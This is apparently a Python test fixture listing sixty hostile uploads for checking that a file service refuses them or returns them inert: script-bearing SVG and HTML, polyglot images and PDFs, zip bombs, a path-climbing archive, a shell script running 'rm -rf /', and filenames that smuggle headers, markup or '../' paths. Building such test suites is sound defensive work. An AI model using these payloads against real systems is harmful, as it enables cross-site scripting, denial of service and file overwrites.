"""Sixty files that try to run, to break out or to break something, as data."""

import gzip
import io
import zipfile
from collections.abc import Iterator
from typing import Final, NamedTuple

from tests.rest.files.cabinet import PNG

RUN: Final = b"<script>document.documentElement.dataset.ran='1';fetch('/ran')</script>"
SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.dataset.ran=1">%b</svg>'
XHTML: Final = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>%b</body></html>'


class Hostile(NamedTuple):
    """A file that must be refused, or come back as it is and inert."""

    title: str
    name: str
    content: bytes
    refused: bool = False


def zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("zeros", bytes(8 << 20))
    return packed.getvalue()


def climbing_zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr("../../etc/passwd", b"root")
    return packed.getvalue()


def by_content() -> Iterator[Hostile]:
    yield Hostile("an svg with a script", "a.svg", SVG % RUN)
    yield Hostile("the same, named as a picture", "a.png", SVG % RUN)
    yield Hostile("an svg after a declaration", "a.svg", b'<?xml version="1.0"?>\n' + SVG % RUN)
    yield Hostile("an svg after a doctype", "a.svg", b"<!DOCTYPE svg PUBLIC 'x' 'y'>" + SVG % RUN)
    yield Hostile("an svg after a comment", "a.svg", b"<!-- GIF89a -->" + SVG % RUN)
    yield Hostile("an svg after a byte order mark", "a.svg", b"\xef\xbb\xbf" + SVG % RUN)
    yield Hostile("an svg with entities that grow", "a.svg", b'<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + SVG % b"&a;")
    yield Hostile("an svg with a foreign object", "a.svg", SVG % (b"<foreignObject>" + RUN + b"</foreignObject>"))
    yield Hostile("an svg with a link that runs", "a.svg", SVG % b'<a href="javascript:alert(1)">x</a>')
    yield Hostile("an svg that loads another", "a.svg", SVG % b'<use href="//evil.example/a.svg#x"/>')
    yield Hostile("an svg in UTF-16", "a.svg", (SVG % RUN).decode().encode("utf-16"))
    yield Hostile("an svg that is compressed", "a.svgz", gzip.compress(SVG % RUN))
    yield Hostile("a page", "a.html", b"<!DOCTYPE html>" + RUN)
    yield Hostile("a page named as a picture", "a.png", b"<html>" + RUN)
    yield Hostile("a page named as a picture twice", "a.html.jpg", b"<html>" + RUN)
    yield Hostile("a page of XML", "a.xhtml", XHTML % RUN)
    yield Hostile("a page after blanks", "a.txt", b"\n\n \t" + RUN)
    yield Hostile("a page in UTF-7", "a.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    yield Hostile("a page in UTF-16", "a.txt", RUN.decode().encode("utf-16"))
    yield Hostile("a page with a NUL in front", "a.html", b"\0" + RUN)
    yield Hostile("a page with a form", "a.html", b"<form action=//evil.example><input autofocus onfocus=alert(1)>")
    yield Hostile("a page that moves on", "a.html", b'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">')
    yield Hostile("a page with a base", "a.html", b'<base href="//evil.example/"><script src=a.js></script>')
    yield Hostile("a page with a frame", "a.html", b"<iframe srcdoc='" + RUN + b"'></iframe>")
    yield Hostile("a style sheet", "a.css", b"body{background:url(//evil.example/)}")
    yield Hostile("a script", "a.js", b"alert(1)")
    yield Hostile("a script as a module", "a.mjs", b"import '//evil.example/a.js'")
    yield Hostile("a manifest", "a.appcache", b"CACHE MANIFEST\n/")
    yield Hostile("a style sheet of XML", "a.xsl", b'<?xml-stylesheet href="a.xsl"?><a/>')
    yield Hostile("a web archive", "a.mhtml", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + RUN)
    yield Hostile("a shortcut", "a.url", b"[InternetShortcut]\nURL=javascript:alert(1)")
    yield Hostile("a picture and a page", "a.gif", b"GIF89a/*" + RUN + b"*/=1;alert(1)")
    yield Hostile("a picture and a script", "a.gif", b"GIF89a=1;alert(1)//")
    yield Hostile("a picture with a page in it", "a.png", PNG + RUN)
    yield Hostile("a jpeg with a page in its comment", "a.jpg", b"\xff\xd8\xff\xfe\x00\x40" + RUN + b"\xff\xd9")
    yield Hostile("a webp that is a script", "a.webp", b"RIFF=1/*WEBP*/;alert(1)")
    yield Hostile("a picture that is cut off", "a.png", PNG[:12])
    yield Hostile("a picture of four billion points", "a.png", PNG[:16] + b"\xff" * 8 + PNG[24:])
    yield Hostile("a pdf with a script", "a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")
    yield Hostile("a pdf and a page", "a.pdf", b"%PDF-1.7\n" + RUN)
    yield Hostile("an archive and a page", "a.zip", RUN + zip_bomb())
    yield Hostile("an archive that is larger inside", "a.zip", zip_bomb())
    yield Hostile("an archive with a path", "a.zip", climbing_zip())
    yield Hostile("a compressed file that is larger inside", "a.gz", gzip.compress(bytes(8 << 20)))
    yield Hostile("a program", "a.exe", b"MZ\x90\x00" + bytes(60))
    yield Hostile("a program of another kind", "a", b"\x7fELF" + bytes(60))
    yield Hostile("a shell script", "a.sh", b"#!/bin/sh\nrm -rf /\n")
    yield Hostile("headers in the content", "a.txt", b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + RUN)


def by_name() -> Iterator[Hostile]:
    yield Hostile("a quote in the name", 'a".html; x="', PNG)
    yield Hostile("a semicolon in the name", "a.png; filename=b.html", PNG)
    yield Hostile("markup in the name", "<img src=x onerror=alert(1)>.png", PNG)
    yield Hostile("the longest name", "n" * 251 + ".png", PNG)
    yield Hostile("a name that is too long", "n" * 252 + ".png", PNG, refused=True)
    yield Hostile("a path", "../../etc/passwd", PNG, refused=True)
    yield Hostile("a path of another system", "..\\..\\boot.ini", PNG, refused=True)
    yield Hostile("a name that is a folder", "..", PNG, refused=True)
    yield Hostile("a NUL in the name", "a.png\0.html", PNG, refused=True)
    yield Hostile("a new header in the name", "a.png\r\nContent-Type: text/html", PNG, refused=True)
    yield Hostile("a name that turns around", "a\u202egnp.exe", PNG, refused=True)
    yield Hostile("half of a surrogate pair", "a\ud800.png", PNG, refused=True)


HOSTILE: Final = (*by_content(), *by_name())
